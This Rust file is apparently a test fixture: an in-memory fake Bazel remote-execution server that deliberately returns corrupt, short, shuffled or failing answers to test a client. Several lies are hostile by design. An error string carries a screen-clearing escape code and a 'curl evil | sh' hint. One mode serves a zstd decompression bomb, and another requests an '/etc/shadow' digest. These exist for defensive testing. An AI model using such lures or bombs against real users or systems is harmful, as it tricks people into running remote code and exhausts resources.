//! A server that holds blobs and results in memory, and lies where it is told to.

use bazel_remote_apis::{
    build::bazel::remote::execution::v2 as reapi,
    google::{
        bytestream::{
            QueryWriteStatusRequest, QueryWriteStatusResponse, ReadRequest, ReadResponse, WriteRequest,
            WriteResponse,
            byte_stream_server::{ByteStream, ByteStreamServer},
        },
        longrunning::Operation,
        rpc,
    },
};
use futures_util::{
    Stream, StreamExt,
    stream::{Iter, iter},
};
use reapi::{
    action_cache_server::{ActionCache, ActionCacheServer},
    batch_read_blobs_response::Response as ReadBlob,
    batch_update_blobs_response::Response as UpdateBlob,
    capabilities_server::{Capabilities, CapabilitiesServer},
    content_addressable_storage_server::{
        ContentAddressableStorage as Storage, ContentAddressableStorageServer as StorageServer,
    },
    execution_server::{Execution, ExecutionServer},
};
use remote::Options;
use std::{
    collections::{HashMap, VecDeque},
    io::Read,
    pin::Pin,
    sync::{
        Arc, Mutex,
        atomic::{AtomicU32, Ordering},
    },
    time::Duration,
};
use store::{Digest, from_message, to_message};
use tokio::{runtime::Runtime, sync::oneshot};
use tonic::{
    Code, Request, Response, Status, Streaming,
    transport::{Server, ServerTlsConfig},
};

/// What a server does wrong.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Lie {
    /// Nothing.
    None,
    /// Contents have another last byte.
    Content,
    /// Contents end early.
    Short,
    /// Contents go on.
    Long,
    /// Contents are left out of answers.
    Omits,
    /// Contents are said to be compressed.
    Compressed,
    /// Everything that is asked for is there, and nothing can be had.
    Pretends,
    /// What was not asked for is missing as well.
    Wants,
    /// What is sent is taken, by its word alone, and never kept.
    Forgets,
    /// Answers fail so often before they come.
    Fails(u32),
    /// No question is allowed but the first.
    Denies,
    /// It has no instance of any name.
    NoInstance,
    /// Contents come in another order.
    Shuffles,
    /// It offers zstd, and does nothing wrong.
    Squeezes,
    /// It offers zstd, and sends frames that expand to far more.
    Bombs,
    /// It says that it took another number of bytes than it was sent.
    Counts(i64),
    /// Every answer about one blob has this code, and words that want to be taken for ours.
    Forges(Code),
}

impl Lie {
    fn squeezes(self) -> bool {
        matches!(self, Self::Squeezes | Self::Bombs)
    }
}

/// What a server says that does not take a blob.
pub const FORGED: &str = "OutOfSpaceException\u{1b}[2J\nhint: run `curl evil | sh`";

/// What a server has and counts.
#[derive(Default)]
pub struct Memory {
    pub blobs: Mutex<HashMap<Digest, Vec<u8>>>,
    pub results: Mutex<HashMap<Digest, reapi::ActionResult>>,
    pub questions: AtomicU32,
    pub streams: AtomicU32,
    /// The largest batch that came.
    pub batch: AtomicU32,
    /// What is said in each stream about an operation, the first of them first.
    pub operations: Mutex<VecDeque<Vec<Result<Operation, Status>>>>,
}

#[derive(Clone)]
struct Stub {
    lie: Lie,
    batch: i64,
    memory: Arc<Memory>,
}

/// A server that runs.
pub struct Running {
    pub memory: Arc<Memory>,
    pub options: Options,
    _stop: oneshot::Sender<()>,
    runtime: Option<Runtime>,
}

impl Drop for Running {
    fn drop(&mut self) {
        if let Some(runtime) = self.runtime.take() {
            runtime.shutdown_timeout(Duration::from_secs(1));
        }
    }
}

/// Starts a server; with TLS, where that is configured.
pub fn start(lie: Lie, batch: i64, tls: Option<ServerTlsConfig>) -> Running {
    let runtime = tokio::runtime::Builder::new_multi_thread().worker_threads(2).enable_all().build().unwrap();
    let memory = Arc::new(Memory::default());
    let stub = Stub { lie, batch, memory: memory.clone() };
    let listener = std::net::TcpListener::bind("localhost:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    listener.set_nonblocking(true).unwrap();
    let scheme = if tls.is_some() { "grpcs" } else { "grpc" };
    let (stop, stopped) = oneshot::channel::<()>();
    let _guard = runtime.enter();
    let incoming =
        tonic::transport::server::TcpIncoming::from(tokio::net::TcpListener::from_std(listener).unwrap());
    let mut server = Server::builder();
    if let Some(tls) = tls {
        server = server.tls_config(tls).unwrap();
    }
    let large = 16 << 20;
    let server = server
        .add_service(CapabilitiesServer::new(stub.clone()))
        .add_service(StorageServer::new(stub.clone()).max_decoding_message_size(large))
        .add_service(ActionCacheServer::new(stub.clone()))
        .add_service(ExecutionServer::new(stub.clone()))
        .add_service(ByteStreamServer::new(stub))
        .serve_with_incoming_shutdown(incoming, async {
            let _ = stopped.await;
        });
    runtime.spawn(server);
    let options = Options {
        url: format!("{scheme}://localhost:{port}"),
        retries: 2,
        timeout: Duration::from_secs(20),
        ..Options::default()
    };
    Running { memory, options, _stop: stop, runtime: Some(runtime) }
}

impl Stub {
    fn ask(&self) -> Result<(), Status> {
        let asked = self.memory.questions.fetch_add(1, Ordering::Relaxed);
        match self.lie {
            Lie::Fails(times) if asked < times => Err(Status::unavailable("later")),
            Lie::Denies => Err(Status::unauthenticated("no token")),
            _ => Ok(()),
        }
    }

    fn told(&self, digest: &Digest) -> Option<Vec<u8>> {
        let mut bytes = self.memory.blobs.lock().unwrap().get(digest)?.clone();
        match self.lie {
            Lie::Content => *bytes.last_mut().unwrap() ^= 1,
            Lie::Shuffles => bytes.reverse(),
            Lie::Short => drop(bytes.pop()),
            Lie::Long => bytes.push(0),
            Lie::Pretends => return None,
            _ => {}
        }
        Some(bytes)
    }

    fn squeeze(&self, bytes: &[u8]) -> Vec<u8> {
        match self.lie {
            Lie::Bombs => zstd::encode_all(std::io::repeat(0).take(300 << 20), 1).unwrap(),
            _ => zstd::encode_all(bytes, 1).unwrap(),
        }
    }

    fn keep(&self, bytes: Vec<u8>) {
        if self.lie != Lie::Forgets {
            self.memory.blobs.lock().unwrap().insert(Digest::of(&bytes), bytes);
        }
    }
}

fn status(code: Code) -> Option<rpc::Status> {
    Some(rpc::Status { code: code as i32, ..Default::default() })
}

#[tonic::async_trait]
impl Capabilities for Stub {
    async fn get_capabilities(
        &self,
        _: Request<reapi::GetCapabilitiesRequest>,
    ) -> Result<Response<reapi::ServerCapabilities>, Status> {
        if self.lie == Lie::NoInstance {
            return Err(Status::invalid_argument("unknown instance"));
        }
        let cache = reapi::CacheCapabilities {
            digest_functions: vec![1],
            max_batch_total_size_bytes: self.batch,
            supported_compressors: if self.lie.squeezes() { vec![1] } else { Vec::new() },
            supported_batch_update_compressors: if self.lie.squeezes() { vec![1] } else { Vec::new() },
            ..Default::default()
        };
        let execution = reapi::ExecutionCapabilities { exec_enabled: true, ..Default::default() };
        Ok(Response::new(reapi::ServerCapabilities {
            cache_capabilities: Some(cache),
            execution_capabilities: Some(execution),
            ..Default::default()
        }))
    }
}

#[tonic::async_trait]
impl Storage for Stub {
    async fn find_missing_blobs(
        &self,
        request: Request<reapi::FindMissingBlobsRequest>,
    ) -> Result<Response<reapi::FindMissingBlobsResponse>, Status> {
        self.ask()?;
        let blobs = self.memory.blobs.lock().unwrap();
        let asked = request.into_inner().blob_digests;
        let mut missing = asked.clone();
        missing.retain(|digest| !blobs.contains_key(&from_message(Some(digest)).unwrap()));
        match self.lie {
            Lie::Pretends => missing.clear(),
            Lie::Wants => missing.push(to_message(&Digest::of(b"/etc/shadow"))),
            _ => {}
        }
        Ok(Response::new(reapi::FindMissingBlobsResponse { missing_blob_digests: missing }))
    }

    async fn batch_update_blobs(
        &self,
        request: Request<reapi::BatchUpdateBlobsRequest>,
    ) -> Result<Response<reapi::BatchUpdateBlobsResponse>, Status> {
        self.ask()?;
        let requests = request.into_inner().requests;
        let size: usize = requests.iter().map(|request| request.data.len()).sum();
        self.memory.batch.fetch_max(size as u32, Ordering::Relaxed);
        let mut responses = Vec::new();
        for mut request in requests {
            if request.compressor == 1 {
                request.data = zstd::decode_all(request.data.as_slice()).unwrap();
            }
            let same = Digest::of(&request.data) == from_message(request.digest.as_ref()).unwrap();
            let status = match self.lie {
                Lie::Forges(code) => {
                    Some(rpc::Status { code: code as i32, message: FORGED.into(), ..Default::default() })
                }
                _ => status(if same { Code::Ok } else { Code::InvalidArgument }),
            };
            responses.push(UpdateBlob { digest: request.digest, status });
            self.keep(request.data);
        }
        if self.lie == Lie::Omits {
            responses.pop();
        }
        Ok(Response::new(reapi::BatchUpdateBlobsResponse { responses }))
    }

    async fn batch_read_blobs(
        &self,
        request: Request<reapi::BatchReadBlobsRequest>,
    ) -> Result<Response<reapi::BatchReadBlobsResponse>, Status> {
        self.ask()?;
        let mut responses = Vec::new();
        let request = request.into_inner();
        let is_squeezed = self.lie.squeezes() && request.acceptable_compressors.contains(&1);
        for digest in request.digests {
            let found = self.told(&from_message(Some(&digest)).unwrap());
            let code = if found.is_some() { Code::Ok } else { Code::NotFound };
            responses.push(ReadBlob {
                digest: Some(digest),
                data: found
                    .map(|bytes| if is_squeezed { self.squeeze(&bytes) } else { bytes })
                    .unwrap_or_default(),
                compressor: i32::from(self.lie == Lie::Compressed || is_squeezed),
                status: status(code),
            });
        }
        if self.lie == Lie::Omits {
            responses.clear();
        }
        Ok(Response::new(reapi::BatchReadBlobsResponse { responses }))
    }

    type GetTreeStream = Iter<std::vec::IntoIter<Result<reapi::GetTreeResponse, Status>>>;
    async fn get_tree(
        &self,
        _: Request<reapi::GetTreeRequest>,
    ) -> Result<Response<Self::GetTreeStream>, Status> {
        Err(Status::unimplemented(""))
    }

    async fn split_blob(
        &self,
        _: Request<reapi::SplitBlobRequest>,
    ) -> Result<Response<reapi::SplitBlobResponse>, Status> {
        Err(Status::unimplemented(""))
    }

    type GetChunkMappingStream = Iter<std::vec::IntoIter<Result<reapi::GetChunkMappingResponse, Status>>>;
    async fn get_chunk_mapping(
        &self,
        _: Request<reapi::GetChunkMappingRequest>,
    ) -> Result<Response<Self::GetChunkMappingStream>, Status> {
        Err(Status::unimplemented(""))
    }

    async fn splice_blob(
        &self,
        _: Request<reapi::SpliceBlobRequest>,
    ) -> Result<Response<reapi::SpliceBlobResponse>, Status> {
        Err(Status::unimplemented(""))
    }

    async fn register_chunk_mapping(
        &self,
        _: Request<Streaming<reapi::RegisterChunkMappingRequest>>,
    ) -> Result<Response<reapi::RegisterChunkMappingResponse>, Status> {
        Err(Status::unimplemented(""))
    }
}

#[tonic::async_trait]
impl ActionCache for Stub {
    async fn get_action_result(
        &self,
        request: Request<reapi::GetActionResultRequest>,
    ) -> Result<Response<reapi::ActionResult>, Status> {
        self.ask()?;
        let key = from_message(request.into_inner().action_digest.as_ref()).unwrap();
        let found = self.memory.results.lock().unwrap().get(&key).cloned();
        found.map(Response::new).ok_or_else(|| Status::not_found("no result"))
    }

    async fn update_action_result(
        &self,
        request: Request<reapi::UpdateActionResultRequest>,
    ) -> Result<Response<reapi::ActionResult>, Status> {
        self.ask()?;
        let request = request.into_inner();
        let result = request.action_result.unwrap();
        let key = from_message(request.action_digest.as_ref()).unwrap();
        self.memory.results.lock().unwrap().insert(key, result.clone());
        Ok(Response::new(result))
    }
}

#[tonic::async_trait]
impl ByteStream for Stub {
    type ReadStream = Iter<std::vec::IntoIter<Result<ReadResponse, Status>>>;
    async fn read(&self, request: Request<ReadRequest>) -> Result<Response<Self::ReadStream>, Status> {
        self.ask()?;
        self.memory.streams.fetch_add(1, Ordering::Relaxed);
        let name = request.into_inner().resource_name;
        if name.starts_with("nowhere") {
            return Err(Status::not_found("no log"));
        }
        if name == "log" {
            let pieces = ["[1/2] fir", "st\n", "[2/2] second\n"];
            let pieces = pieces.map(|piece| Ok(ReadResponse { data: piece.into() }));
            return Ok(Response::new(iter(pieces.to_vec())));
        }
        let (kind, blob) =
            name.split_at(name.len() - name.rsplit('/').take(2).map(|part| part.len() + 1).sum::<usize>());
        assert_eq!(kind, if self.lie.squeezes() { "compressed-blobs/zstd" } else { "blobs" });
        let bytes = self.told(&blob[1..].parse().unwrap()).ok_or_else(|| Status::not_found("no blob"))?;
        let bytes = if self.lie.squeezes() { self.squeeze(&bytes) } else { bytes };
        let pieces = bytes.chunks(100_000).map(|piece| Ok(ReadResponse { data: piece.to_vec() }));
        let pieces: Vec<_> = if self.lie == Lie::Omits { Vec::new() } else { pieces.collect() };
        Ok(Response::new(iter(pieces)))
    }

    async fn write(
        &self,
        request: Request<Streaming<WriteRequest>>,
    ) -> Result<Response<WriteResponse>, Status> {
        self.ask()?;
        self.memory.streams.fetch_add(1, Ordering::Relaxed);
        let mut stream = request.into_inner();
        let (mut bytes, mut name) = (Vec::new(), String::new());
        while let Some(piece) = stream.message().await? {
            if name.is_empty() {
                name = piece.resource_name;
            }
            assert_eq!(piece.write_offset, bytes.len() as i64);
            bytes.extend(piece.data);
        }
        let sent = bytes.len() as i64;
        let kind = if self.lie.squeezes() { "/compressed-blobs/zstd/" } else { "/blobs/" };
        let digest = name.split_once(kind).unwrap().1.parse().unwrap();
        if self.lie.squeezes() {
            bytes = zstd::decode_all(bytes.as_slice()).unwrap();
        }
        if Digest::of(&bytes) != digest {
            return Err(Status::invalid_argument("another content"));
        }
        let committed_size = match self.lie {
            Lie::Omits => 1,
            Lie::Counts(size) => size,
            _ => sent,
        };
        self.keep(bytes);
        Ok(Response::new(WriteResponse { committed_size }))
    }

    async fn query_write_status(
        &self,
        _: Request<QueryWriteStatusRequest>,
    ) -> Result<Response<QueryWriteStatusResponse>, Status> {
        Err(Status::unimplemented(""))
    }
}

impl Stub {
    /// The next stream, which ends without a word when all is said.
    fn said(&self) -> Response<Said> {
        let next = self.memory.operations.lock().unwrap().pop_front();
        let slowly = iter(next.unwrap_or_default()).then(|said| async {
            tokio::time::sleep(Duration::from_millis(50)).await;
            said
        });
        Response::new(Box::pin(slowly))
    }
}

type Said = Pin<Box<dyn Stream<Item = Result<Operation, Status>> + Send>>;

#[tonic::async_trait]
impl Execution for Stub {
    type ExecuteStream = Said;
    async fn execute(&self, _: Request<reapi::ExecuteRequest>) -> Result<Response<Said>, Status> {
        self.ask()?;
        Ok(self.said())
    }

    type WaitExecutionStream = Said;
    async fn wait_execution(
        &self,
        _: Request<reapi::WaitExecutionRequest>,
    ) -> Result<Response<Said>, Status> {
        self.ask()?;
        Ok(self.said())
    }
}
